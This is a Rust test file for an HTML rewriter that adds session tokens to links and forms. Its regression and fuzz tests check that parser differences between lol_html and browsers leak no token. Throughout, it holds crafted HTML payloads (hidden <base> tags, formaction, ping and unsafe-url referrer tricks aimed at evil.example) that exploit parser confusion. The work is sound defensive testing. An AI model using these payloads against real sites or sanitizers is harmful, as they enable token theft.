/// After a start tag lol_html misreads (`<noscript a=>`: it reads the element's text as
/// markup), a `<![CDATA[` it reads as a bogus comment may span the browser's end tag of that
/// element (`<![CDATA[</noscript >`): the empty comment the rewriter wrote in its place took
/// that end tag, and the text after it, into the element (found by `rewrite_html`). There the
/// page stays as it is. Each text element, cut at every byte, both link modes.
#[test]
fn a_cdata_opener_after_a_misread_start_tag_is_left_as_it_is() {
    for element in [
        "title", "textarea", "style", "xmp", "iframe", "noembed", "noframes", "noscript", "script",
    ] {
        for page in [
            format!("<{element} a=><![CDATA[</{element} >x<a href=/n>n</a>"),
            format!("<p><{element} a=><![CDATA[x]]></{element}>y<form method=post></form>"),
        ] {
            properties::check_rewrite_cut_anywhere(page.as_bytes());
        }
    }
}

/// A start tag with an attribute named `=…` after one without a value (`b/="c`): lol_html
/// writes a changed tag back with a space there, and `b ="c` gives `b` a value that swallows
/// the page, so such tags were left as they were. Where the rewriter must take something out
/// (a weak referrer policy, a ping, a `srcdoc`, a late base's `href`), left as it was, it sent
/// the page's URL, token and all, elsewhere (found while fixing a `rewrite_html` finding on a
/// late `<base>`). The element goes now (a bare `<base>` or `<meta>` in their place). Swept: each
/// element, before and after a token is out, both link modes: no leak (an element that went
/// changes the page, which is what failing closed costs here).
#[test]
fn a_tag_lol_html_cannot_write_back_goes_where_it_must_change() {
    let tags = [
        "<meta name=referrer content=unsafe-url b/=x>",
        "<meta http-equiv=referrer-policy content=unsafe-url b/=x>",
        "<img referrerpolicy=unsafe-url b/=x src=https://evil.example/i>",
        "<link rel=stylesheet referrerpolicy=unsafe-url b/=x href=https://evil.example/s>",
        "<script referrerpolicy=unsafe-url b/=x src=https://evil.example/j></script>",
        "<iframe referrerpolicy=unsafe-url b/=x src=https://evil.example/f></iframe>",
        "<iframe srcdoc='<img src=https://evil.example/d referrerpolicy=unsafe-url>' b/=x></iframe>",
        "<a href=https://evil.example/a referrerpolicy=unsafe-url b/=x>go</a>",
        "<a href=/n ping=https://evil.example/p b/=x>go</a>",
        "<base href=https://evil.example/ b/=x>",
    ];
    let mut pages = 0;
    for tag in tags {
        for page in [
            format!("{tag}<img src=https://evil.example/i2><a href=/next>n</a>"),
            format!("<a href=/next>n</a><img src=/i>{tag}<a href=https://evil.example/x>x</a>"),
        ] {
            for use_get in [false, true] {
                for verdict in properties::rewrite_verdicts(page.as_bytes(), &[], use_get) {
                    assert!(
                        verdict.leaks.is_empty(),
                        "use_get {use_get}: {page}: {:#?}",
                        verdict.leaks
                    );
                }
                pages += 1;
            }
        }
    }
    assert_eq!(pages, 40);
}

/// A start tag that some reading takes out of a `<select>` (table parts in the relaxed
/// parser; `<input>`, `<keygen>`, `<textarea>` in the "in select" mode): the browser then
/// ignores the `</select>` after it, where lol_html pops what the browser keeps open. In
/// `<form method=post><select><table></select></form><button formaction=//evil.example/>` the
/// table stays open, `</form>` is ignored (its form out of scope), and the button sent the
/// form's token away (found by `rewrite_pieces`). Swept: the tags, what closes the form, what
/// follows, both link modes, streamed, held whole and on the plain path.
#[test]
fn a_tag_some_reading_takes_out_of_a_select_leaves_forms_in_doubt() {
    let closers = [
        "<table>",
        "<table><tr><td>",
        "<caption>",
        "<tbody>",
        "<tr>",
        "<td>",
        "<th>",
        "<input>",
        "<keygen>",
        "<textarea></textarea>",
    ];
    let ends = ["</select></form>", "</select></form></table>", "</form>"];
    let tails = [
        "<button formaction=https://evil.example/>go</button>",
        "<input type=submit formaction=//evil.example/i>",
        "<form method=post action=/y><input name=b></form>",
    ];
    let mut pages = 0;
    for closer in closers {
        for end in ends {
            for tail in tails {
                let page = format!(
                    "<form method=post action=/x><input name=a><select>{closer}{end}{tail}"
                );
                for use_get in [false, true] {
                    assert_no_leak_nor_move_anywhere(&page, use_get);
                    pages += 1;
                }
            }
        }
    }
    assert_eq!(pages, 180);
}

/// An HTML element left open inside an integration point (`<svg><title><form>`): a browser
/// reads `</title>` there by the "in body" rules, which stop at the special SVG `<title>` and
/// ignore the tag, so the page goes on inside it, and a later `<title>` is an HTML one whose
/// text takes the rest. lol_html closed both, read that `<title>` as an SVG one, and gave the
/// links in its text the token (found by `rewrite_pieces`, seed 53; the family swept here:
/// integration points, elements left open, closers, the text element after, both link modes).
#[test]
fn html_left_open_in_an_integration_point_keeps_a_browser_inside() {
    let points = [
        ("<svg><title>", "</title>"),
        ("<svg><desc>", "</desc>"),
        ("<svg><foreignObject>", "</foreignObject>"),
        ("<math><mtext>", "</mtext>"),
        ("<math><mi>", "</mi>"),
        (
            "<math><annotation-xml encoding=text/html>",
            "</annotation-xml>",
        ),
    ];
    let open = [
        "<b>",
        "<p>",
        "<form>",
        "<div><span>",
        "<a href=/a>",
        "<select>",
    ];
    let closers = ["", "</svg>", "</math>", "</svg></math>"];
    let after = [
        "<title><a href=/n>n</a>",
        "<textarea><form method=post action=/p><input name=pw></form>",
        "<noscript><a href=/n>n</a></noscript>",
        "<xmp><a href=/n>n</a>",
        "<a href=/n>n</a><form method=post><input name=pw></form>",
    ];
    let mut pages = 0;
    for (start, end) in points {
        for inside in open {
            for closer in closers {
                for tail in after {
                    let page = format!("{start}{inside}x{end}{closer}{tail}");
                    for use_get in [false, true] {
                        properties::check_rewrite(page.as_bytes(), &[], use_get);
                        pages += 1;
                    }
                }
            }
        }
    }
    assert_eq!(pages, 1440);
}

/// A NUL in an attribute value is U+FFFD to the tokenizer, and lol_html leaves it: a
/// `<base href="frame://evil\0/">` was a URL the parser refused, so the rewriter kept the page
/// as the base, where a browser reads a valid base on another origin (host `evil%EF%BF%BD`)
/// that moved the token placed in a relative link before it (found by `rewrite_html` with the
/// dictionary). Values are read with U+FFFD for NUL now. Each page whole and cut anywhere.
#[test]
fn a_nul_in_a_value_is_read_as_the_tokenizer_reads_it() {
    let pages = [
        "<a href=rm>r</a><base href=\"frame://evil\0/\">",
        "<a href=rm>r</a><base href=frame://evil\0\0f=/z>",
        "<form method=post action=p><input name=a></form><base href=\"frame://e\0vil/\">",
        "<a href=\"/x\0\">x</a><a href=\"https://evil.example\0/\">e</a>",
        "<form method=post action=\"//evil.example\0/\"><input name=a></form>",
    ];
    for page in pages {
        properties::check_rewrite_cut_anywhere(page.as_bytes());
    }
}

/// A `</form>` inside a `<select>`: the "in select" mode ignores it, and the relaxed `<select>`
/// parser (html5ever 0.40, Chromium 135+) clears the pointer but leaves the form open when the
/// select stands between them. Where lol_html matched it with a form inside the select (which
/// every browser ignores, the outer form being open), the rewriter cleared the pointer, and a
/// later POST form got its token; to Gecko the outer GET form was still open, the later form
/// was ignored and the token input joined the GET form: the token went into the URL (found by
/// `rewrite_pieces`, seed 47; the same on 45ec543). Sweeping the family then found the relaxed
/// reading's open form owning a later cross-site submitter (45 of 3,360 pages). The pointer is
/// unknown there now, every form still open may own later controls, and the plain path leaves
/// such a page to lol_html. Swept: outer forms, what the select holds, how it closes, what
/// comes after, both link modes.
#[test]
fn a_form_end_tag_inside_a_select_is_read_by_one_reading_only() {
    let outers = [
        "<form method=get>",
        "<form method=post action=/o>",
        "<form id=o method=post>",
        "<form method=post><input name=q>",
        "",
    ];
    let insides = [
        "<form method=get></form>",
        "<form></form><option>o",
        "<option><form method=post></form>",
        "<optgroup><form></optgroup></form>",
        "</form>",
        "<form></form></form>",
        "<form method=post>",
        "<input name=i>",
        "<textarea></form></textarea>",
        "<template></form></template>",
        "<hr></form>",
        "<button>",
        "</select><form method=post>",
        "<select></form>",
    ];
    let selects = [
        ("<select>", "</select>"),
        ("<table><tr><td><select>", "</select></table>"),
        ("<select>", "</td>"),
        ("<div><select>", "</div>"),
    ];
    let afters = [
        "<form method=post action=/p><input name=pw></form>",
        "<form id=f method=post><input name=a>",
        "<button formaction=//evil.example/x>go</button>",
        "<input type=submit form=o formaction=//evil.example/y>",
        "</form><form method=post action=/p><input name=pw></form><button formaction=//evil.example/z>",
        "<a href=/n>n</a><base href=//evil.example/>",
    ];
    let mut pages = 0;
    for outer in outers {
        for inside in insides {
            for (open, close) in selects {
                for after in afters {
                    let page = format!("{outer}x{open}{inside}{close}{after}");
                    for use_get in [false, true] {
                        properties::check_rewrite(page.as_bytes(), &[], use_get);
                        pages += 1;
                    }
                }
            }
        }
    }
    assert_eq!(pages, 3360);
}

/// Held text whose element's end tag the page never finishes (`</noscript\r a` to the end):
/// every browser drops that unfinished tag, and the element holds its text to the end.
/// lol_html flushes the tag's bytes at the end, and the held text, appended after them, had
/// a `>` finish the tag, so the rest of the text showed outside the element (found by
/// `rewrite_html`, seed 38). It goes back before them now, in one chunk and cut anywhere.
#[test]
fn held_text_goes_back_before_an_end_tag_the_page_never_finishes() {
    let pages = [
        "<noscript>a>b</noscript\r x",
        "<noscript>a>b</noscript x=\"",
        "<p>p<noscript>a>b c</noscript\n",
        "<select><style>s>t</style a",
        "<select><title>t>u</title/",
        "<svg><script>s>t</script ",
    ];
    for page in pages {
        properties::check_rewrite_cut_anywhere(page.as_bytes());
    }
}

/// A held text element (`rules::HeldText`: one the "in select" mode ignores, a `<noscript>`)
/// whose own start tag lol_html misreads: lol_html reads its text as markup but names it text
/// of the element, so the rewriter held it. A `<` in it was dropped (judged not inert), and text
/// after a bogus comment lol_html read there (`</</title>`) was held and put back after the
/// next tag (found by `rewrite_html` with the dictionary, seed 42). From the misread tag on,
/// nothing is held: the text stays where it is, in one chunk and cut anywhere.
#[test]
fn no_text_is_held_in_an_element_whose_start_tag_lol_html_misreads() {
    let pages = [
        "<select><title a=></</title>t<input>",
        "<select><title a=><</title>t<input>",
        "<a href=/x>x</a><select><title a=></</title>sen=/k><input name=pw></form><a</a>",
        "<select><style a=></</style>s<option>o</select><form method=post><input></form>",
        "<noscript a=></</noscript>n<p>p</p>",
        "<select><xmp b=>x<</xmp>t</select>",
    ];
    for page in pages {
        properties::check_rewrite_cut_anywhere(page.as_bytes());
    }
}

/// A text element's start tag whose last attribute has `=` and no value (`<title a=>`): lol_html
/// 3 goes to the data state after it, not to the element's text state, and reads the text as
/// markup. Found by `rewrite_html` as a link's token in script text; a `<!--` in that text
/// hid a `<base>` from lol_html, and the links and forms after it sent the token there. Each
/// page failed before the fix, in one chunk and cut.
#[test]
fn text_element_start_tags_lol_html_misreads() {
    let pages = [
        r#"<title a=><x><!--</title><base href="https://evil.example/">--><a href="/n">n</a>"#,
        r#"<a href="/n">n</a><script src= ><x><!--</script><base href="//evil.example/">-->"#,
        r#"<textarea a=><x><!--</textarea><form action="//evil.example/" method=post>--><form method=post><input name=pw></form>"#,
        r#"<p><STYLE/a=><x><!--</style><meta name=referrer content=unsafe-url>--><a href="//evil.example/">e</a><a href="/n">n</a>"#,
        r#"<noembed a b=><x><!--</noembed><base href="//evil.example/">--><a href="/n">n</a>"#,
        // Followed inside a comment's quote too: the `'` there cannot hide the real tag.
        r#"<!-- <title a='--><xmp src=><x><!--</xmp><base href="//evil.example/">-->'<a href="/n">n</a>"#,
    ];
    for page in pages {
        for use_get in [false, true] {
            properties::check_rewrite(page.as_bytes(), &[], use_get);
            properties::check_rewrite(page.as_bytes(), &[7, 12, 40], use_get);
            // Where the tokens stop does not depend on the chunks: cut anywhere, the same.
            let whole = properties::rewrite_in_chunks(page.as_bytes(), &[], use_get);
            for cut in 1..page.len() {
                let cut_there = properties::rewrite_in_chunks(page.as_bytes(), &[cut], use_get);
                assert!(whole == cut_there, "{page} cut at {cut}");
            }
        }
    }
    // With no token out yet and none in the page's URL, only the tokens stop: the page is not
    // cut (its rest names `referrer`, which would have it dropped where the view is lost).
    let template = r#"<head><script src= ></script></head><form method=post action="/x"><input name=a></form><script>f(document.referrer)</script>"#;
    let (whole, ending) = properties::rewrite_whole(template.as_bytes(), false);
    assert!(!ending.cut_short && whole == template.as_bytes());
    let (streamed, ending) = properties::rewrite_and_tell(template.as_bytes(), &[9, 30], false);
    assert!(!ending.cut_short && streamed == template.as_bytes());
    // A form before it holds a token a hidden `<base>` could move: the rest is judged.
    let after_form = format!(r#"<form method=post action="x"></form>{template}"#);
    let (_, ending) = properties::rewrite_whole(after_form.as_bytes(), false);
    assert!(ending.cut_short);
}

/// A self-closed `<select/>` or `<template/>` in foreign content can have no end tag: the
/// rewriter asked lol_html for an end-tag handler there, lol_html stopped on that error, and the
/// rest of the chunk was lost without a word (found by `rewrite_html` as text dropped after
/// `<svg><select/>`). Both `<select/>` pages lost their end before the fix; a foreign
/// `<template/>` was never given one, and is here to keep it so.
#[test]
fn self_closed_foreign_containers_lose_nothing() {
    let pages = [
        r#"<svg><select/>x</svg><a href="/n">n</a>"#,
        "<svg><template/>x</svg><form method=post></form>",
        "<math><select />x</math><p>y",
    ];
    for page in pages {
        for use_get in [false, true] {
            properties::check_rewrite(page.as_bytes(), &[], use_get);
            let (out, ending) = properties::rewrite_and_tell(page.as_bytes(), &[], use_get);
            assert!(!ending.gave_up && !ending.cut_short, "{page}");
            let kept = String::from_utf8_lossy(&out);
            assert!(
                kept.ends_with(&page[page.len() - 4..]),
                "{page} became {kept}"
            );
        }
    }
}

/// Issue 27's pages: raw text inside `<select>`, `<noscript>` without JavaScript, and character
/// references, each judged in every reading browsers have.
#[test]
fn the_pages_of_issue_27_leak_under_no_reading() {
    let pages = [
        // The "in select" mode ignores these start tags: no raw text follows.
        r#"<select><style></select><base href="https://evil.example/"></style></select><a href="/next">n</a>"#,
        r#"<select><xmp></select><form action="https://evil.example/"></xmp></select><form method="post"><input name="pw"></form>"#,
        r#"<select><title></select><meta name="referrer" content="unsafe-url"></title></select><a href="/next">n</a><img src="https://evil.example/i">"#,
        r#"<select><iframe></select><a href="/next" ping="https://evil.example/p"></iframe></select>x</a>"#,
        r#"<select><noembed></select><!--</noembed></select><a href="/next">n</a><form method=post></form>-->"#,
        r#"<select><noframes></select><base href="//evil.example/"></noframes><a href="next">n</a>"#,
        r#"<select><noscript></select><base href="//evil.example/"></noscript><a href="next">n</a>"#,
        // The "in select" mode ignores a `<base>` the relaxed parser keeps; an `<input>` closes
        // the select, and the second base is the first one to that reading (`rewrite_pieces`).
        r#"<select><base href=/a/><input type=submit formmethod=get><base href="https://evil.example/"><a href="/next">n</a>"#,
        r#"<select><svg><![CDATA[></select><base href="//evil.example/">]]></svg></select><a href="next">n</a>"#,
        r#"<select><math><mtext><style></select><base href="//evil.example/"></style></select><a href="next">n</a>"#,
        // lol_html closes the <select> at </div>, the "in select" mode does not (the end tag
        // is written in); a <template> inside a select hides a </select> from that mode.
        r#"<div><select></div><style></select><base href="//evil.example/"></style><a href="next">n</a>"#,
        r#"<select><template></select><style></template></select><base href="//evil.example/"></style><a href="next">n</a>"#,
        // A browser without JavaScript reads <noscript> content as markup.
        r#"<noscript><form action="https://evil.example/"></noscript><form method="post"><input name="pw"></form>"#,
        r#"<noscript><!--</noscript><form method="post"><input name="pw"></form><a href="/next">n</a>-->"#,
        r#"<noscript><select></noscript><style></select><base href="https://evil.example/"></style><a href="/next">n</a>"#,
        r#"<noscript><textarea></noscript><a href="/next">n</a></textarea>"#,
        r#"<noscript><a href="</noscript><form method=post>"><a href="/next">n</a>"#,
        // CDATA in a MathML text integration point: lol_html reads a bogus comment and markup
        // after it, the tree builder a CDATA section.
        r#"<form action="https://evil.example/"><math><mtext><![CDATA[></form>]]></mtext></math><form method=post><input name=pw></form>"#,
        // The "in select" mode ignores <svg>: its <script> holds text, which lol_html reads
        // as markup (a link it gives the token).
        r#"<select><svg><script>var a = '<a href="/x">';</script></svg></select><a href=/n>n</a>"#,
        // `</div>` takes the tree builder out of the <svg>, not lol_html: the <script> is text
        // to the browser, and the </form> lol_html reads in it is not there.
        r#"<form action="https://evil.example/"><div><svg></div><script></svg></div></form></script><form method=post><input name=pw></form>"#,
        r#"<div><svg></div><script>var a = '<a href="/x">';</script><a href=/n>n</a>"#,
        // There lol_html's tokenizer stays in SVG: a CDATA section or an SVG <script>'s
        // comment hides from it the <base> or <meta> a browser reads.
        r#"<form method=post action=/x></form><select><svg></select><![CDATA[<a href=/e>r</a><base href="https://evil.example/">"#,
        "<a href=/n>n</a><div><svg></div><script><!--</script><meta name=referrer content=unsafe-url><img src=https://evil.example/i>",
        // A <base> in <svg> is no base; `<table>` leaves the <svg>, and the next one is.
        r#"<svg><base href=/a/><table><base href="https://evil.example/"></svg><a href=/next>n</a>"#,
        // Nested foreign content, then a tag that takes the tree builder out of all of it and
        // lol_html out of one level (`<div>`, `</p>`): a <script> or <style> is text to the
        // browser and SVG to lol_html, whose comment or attribute hides the markup after the
        // browser's </script>.
        "<svg><svg><div><script><!--</script><img src=https://evil.example/i><meta name=referrer content=unsafe-url>",
        "<svg><svg></p><script><!--</script><img src=https://evil.example/i><meta name=referrer content=unsafe-url>",
        r#"<svg><svg></p><style><x title="</style><meta name=referrer content=unsafe-url><base href=//evil.example/>"></style><a href=next>n</a><img src=https://evil.example/i>"#,
        r#"<svg><svg></p><style></x title="</style><meta name=referrer content=unsafe-url>"></style><img src=https://evil.example/i>"#,
        "<select><svg><script><!--</script></select><meta name=referrer content=unsafe-url><img src=https://evil.example/i>",
        "<svg><math><font color=red><style><!--</style><base href=//evil.example/>--></style><a href=next>n</a>",
        "<svg><svg></p><style><!--</style><base href=//evil.example/>--></style></svg><form method=post action=next><input name=pw></form>",
        // References a browser decodes: `&copy` is ©.
        r#"<a href="/p?x=1&copy">c</a><a href="https&#x3A;//evil.example/">e</a>"#,
    ];
    let mut failed = Vec::new();
    for page in pages {
        for use_get in [false, true] {
            let judged = std::panic::catch_unwind(|| {
                properties::check_rewrite(page.as_bytes(), &[], use_get);
            });
            if judged.is_err() {
                failed.push(format!("{page} (use_get: {use_get})"));
            }
        }
    }
    assert!(failed.is_empty(), "failed on {failed:#?}");
}

/// Where lol_html loses a browser's view (`<div><svg></div>`), the rest of the page is held
/// and kept whole when it names nothing that could send a token elsewhere, and dropped when
/// it does.
#[test]
fn the_rest_after_a_lost_view_is_kept_unless_it_names_a_way_out() {
    let kept = "<form method=post><input name=a></form><div><svg></div><p>The rest, <a href=/n>with a link</a>.</p>";
    let (out, ending) = properties::rewrite_and_tell(kept.as_bytes(), &[60], true);
    let out = String::from_utf8(out).unwrap();
    assert!(!ending.cut_short, "{out}");
    assert!(
        out.ends_with("<p>The rest, <a href=/n>with a link</a>.</p>"),
        "{out}"
    );
    assert!(
        out.contains(r#"<input type="hidden" name="sessionid""#),
        "{out}"
    );

    let dropped = "<div><svg></div><p>The rest</p><meta name=referrer content=no-referrer>";
    let (out, ending) = properties::rewrite_and_tell(dropped.as_bytes(), &[], true);
    assert!(ending.cut_short);
    assert_eq!(String::from_utf8(out).unwrap(), "<div><svg>");
}

/// A short run of the structure-aware fuzz target: pages of `properties::PIECES`, many of
/// which the plain path takes (so its byte-for-byte agreement with lol_html is tested, not
/// assumed), judged in every reading.
#[test]
fn pages_of_pieces_leak_under_no_reading_and_both_paths_agree() {
    // A fixed xorshift: the same 1,000 pages on every run.
    let mut state = 0x9E37_79B9_7F4A_7C15_u64;
    let mut next = || {
        state ^= state << 13;
        state ^= state >> 7;
        state ^= state << 17;
        state
    };
    let mut plain = 0;
    for _ in 0..1_000 {
        let len = usize::try_from(next() % 24).unwrap_or(0) + 1;
        let data: Vec<u8> = (0..len).map(|_| next().to_le_bytes()[0]).collect();
        plain += usize::from(properties::check_pieces(&data));
    }
    assert!(
        plain >= 100,
        "the plain path took only {plain} of 1,000 pages"
    );
}

/// Every input the fuzzers once failed on (`tests/fuzz-regressions/rewrite_html-*.bin` and
/// `rewrite_pieces-*.bin`) passes now.
#[test]
fn fuzz_regressions_pass() {
    let dir = std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/fuzz-regressions");
    let mut replayed = 0;
    for entry in std::fs::read_dir(&dir).expect("tests/fuzz-regressions") {
        let path = entry.expect("a directory entry").path();
        let name = path.file_name().unwrap_or_default().to_string_lossy();
        if !name.ends_with(".bin") {
            continue;
        }
        let data = std::fs::read(&path).expect("a regression input");
        if name.starts_with("rewrite_html-") {
            properties::check_rewrite_bytes(&data);
            replayed += 1;
        } else if name.starts_with("rewrite_pieces-") {
            properties::check_pieces(&data);
            replayed += 1;
        } else if name.starts_with("rewrite_splits-") {
            properties::check_splits(&data);
            replayed += 1;
        }
    }
    assert!(
        replayed >= 6,
        "only {replayed} regression inputs in {}",
        dir.display()
    );
}

/// How an open fuzz finding fails (`tests/fuzz-open/README.md`).
#[derive(Clone, Copy, PartialEq, Eq, Debug)]
enum OpenOutcome {
    /// The text check alone: a browser reads the rewritten page's tree differently.
    Text,
    /// A link some reading has is gone from the rewritten page (content the rewriter could
    /// not judge was dropped), and no other link changed.
    LinkDropped,
}

/// Every input the fuzzers still fail on (`tests/fuzz-open/`, each explained in its README)
/// fails exactly as recorded there, never a leak check. One that passes is fixed: move it to
/// `tests/fuzz-regressions/`; one that fails otherwise has got worse.
#[test]
fn open_fuzz_findings_fail_only_as_recorded() {
    let recorded = [
        ("rewrite_html-form-input-reopens.bin", OpenOutcome::Text),
        (
            "rewrite_html-formatting-reconstructed-in-form.bin",
            OpenOutcome::Text,
        ),
        (
            "rewrite_html-svg-title-in-select-link-dropped.bin",
            OpenOutcome::LinkDropped,
        ),
        (
            "rewrite_pieces-svg-title-in-select-link-dropped.bin",
            OpenOutcome::LinkDropped,
        ),
    ];
    let dir = std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/fuzz-open");
    let mut replayed = Vec::new();
    for entry in std::fs::read_dir(&dir).expect("tests/fuzz-open") {
        let path = entry.expect("a directory entry").path();
        let name = path
            .file_name()
            .unwrap_or_default()
            .to_string_lossy()
            .into_owned();
        if !name.ends_with(".bin") {
            continue;
        }
        let Some(&(_, outcome)) = recorded.iter().find(|(recorded, _)| *recorded == name) else {
            panic!("{name}: record its expected outcome here and explain it in the README");
        };
        let data = std::fs::read(&path).expect("an open input");
        let verdicts = if name.starts_with("rewrite_html-") {
            properties::rewrite_bytes_verdicts(&data)
        } else {
            properties::pieces_verdicts(&data).0
        };
        for verdict in &verdicts {
            assert!(
                verdict.leaks.is_empty(),
                "{name} leaks: {:#?}",
                verdict.leaks
            );
            match outcome {
                OpenOutcome::Text => {
                    assert!(verdict.target_changed.is_none(), "{name}: {verdict:#?}");
                }
                OpenOutcome::LinkDropped => assert!(
                    verdict
                        .target_changed
                        .as_deref()
                        .is_none_or(|changed| changed.ends_with("became {}")),
                    "{name}: {verdict:#?}"
                ),
            }
        }
        let fails = |verdict: &properties::Verdict| match outcome {
            OpenOutcome::Text => verdict.text_changed.is_some(),
            OpenOutcome::LinkDropped => verdict.target_changed.is_some(),
        };
        assert!(
            verdicts.iter().any(fails),
            "{name} passes now: move it to tests/fuzz-regressions/"
        );
        replayed.push(name);
    }
    replayed.sort();
    let mut recorded: Vec<String> = recorded.iter().map(|(name, _)| name.to_string()).collect();
    recorded.sort_unstable();
    assert_eq!(replayed, recorded, "a recorded input is missing");
}
